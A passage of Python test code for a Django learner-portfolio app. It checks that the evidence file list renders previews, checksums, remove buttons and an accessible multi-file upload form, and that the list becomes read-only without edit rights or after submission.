    files = [vf.file for vf in version.version_files.select_related("file").order_by("position")]
    context = {"evidence": evidence, "version": version, "files": files, "can_edit": can_edit}
    return render_to_string("portfolio/evidence/_files.html", context, request=request)


def test_the_list_shows_each_file_and_the_upload_form(learner, evidence):
    image = attach(evidence, learner, "photo.png", image_bytes("PNG")).file
    pdf = attach(evidence, learner, "scan.pdf", pdf_bytes()).file
    html = render_files(learner, evidence, can_edit=True)
    assert html.index("photo.png") < html.index("scan.pdf")
    assert 'alt="Preview of photo.png"' in html
    assert f'src="{reverse("portfolio:file_preview", args=[image.uuid])}"' in html
    assert f'href="{reverse("portfolio:file_preview", args=[pdf.uuid])}"' in html
    assert "Preview PDF" in html
    assert "PNG image · " in html
    assert "PDF document · " in html
    assert f'title="{pdf.sha256}"' in html
    assert f"{pdf.sha256[:12]}…" in html
    assert re.search(r'<form method="post" action="[^"]+" enctype="multipart/form-data"', html)
    assert '<label for="id_files"' in html
    assert 'name="files" id="id_files"' in html
    assert " multiple " in html
    assert "Each file can be up to 200 MB" in html
    assert 'id="upload-progress"' in html
    assert 'aria-live="polite"' in html
    assert html.count(">Remove<") == 2
    assert "js/upload.js" in html


def test_the_list_is_read_only_without_edit_rights_or_once_submitted(learner, evidence):
    attach(evidence, learner, "scan.pdf", pdf_bytes())
    read_only = render_files(learner, evidence, can_edit=False)
    assert "scan.pdf" in read_only
    assert "Download" in read_only
    assert "id_files" not in read_only
    assert ">Remove<" not in read_only
    lock(evidence.current_version)
    evidence.current_version.refresh_from_db()
    submitted = render_files(learner, evidence, can_edit=True)
    assert "id_files" not in submitted
    assert ">Remove<" not in submitted


def test_an_empty_list_says_so(learner, evidence):
    html = render_files(learner, evidence, can_edit=True)
    assert '<p id="evidence-files-empty">No files attached yet.</p>' in html
